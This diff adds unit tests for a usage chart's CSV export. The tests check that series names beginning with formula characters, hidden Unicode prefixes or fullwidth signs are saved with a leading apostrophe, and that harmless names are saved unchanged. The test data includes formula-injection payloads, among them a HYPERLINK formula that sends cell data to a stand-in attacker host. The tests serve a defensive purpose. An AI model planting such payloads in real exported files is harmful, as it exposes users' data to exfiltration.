@@ -104,6 +104,33 @@ describe('a chart of usage', () => {
     expect(screen.getByRole('table')).toHaveAccessibleName('Usage (credits). Times in Europe/Berlin.');
   });
 
+  it.each([
+    ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\tplain'],
+    ...[' =1', '\u00a0=1', '\u200b=1', '\ufeff=1', '\u202e=1', '\u3000=1'],
+    ...['＝1', '＋1', '－1', '＠A1', 'Aria\n=1', 'Aria\r\n =1', '=HYPERLINK("https://evil.example?"&A1,"x")'],
+  ])('X04: saves %j as a text, and takes nothing away from it', async (name) => {
+    const { user } = open({
+      report: { ...week, series: [{ key: 'odd', name, values: [1, 2, null, 3, -4] }] },
+    });
+    const { text } = await saveCsv(user);
+    const { data, errors } = Papa.parse<string[]>(text.slice(1).trimEnd());
+    expect(errors).toEqual([]);
+    expect(data[0]?.[2]).toBe(`'${name} (credits)`);
+    // Numbers stay numbers, also below zero.
+    expect(data.slice(1).map((row) => row[2])).toEqual(['1', '2', 'no data', '3', '-4']);
+  });
+
+  it.each(['Aria', 'a=b', 'Bram - late', 'x@y', '#1', "'quoted'", '10% off', 'Zoë, "the voice"'])(
+    'X04: saves %j as it is',
+    async (name) => {
+      const { user } = open({
+        report: { ...week, series: [{ key: 'one', name, values: [1, 2, null, 3, 4] }] },
+      });
+      const { text } = await saveCsv(user);
+      expect(Papa.parse<string[]>(text.slice(1)).data[0]?.[2]).toBe(`${name} (credits)`);
+    },
+  );
+
   it('saves the rows of the table as CSV: zone and unit in its head, no formula, every moment with its offset', async () => {
     const { user } = open();
     const { name, text } = await saveCsv(user);
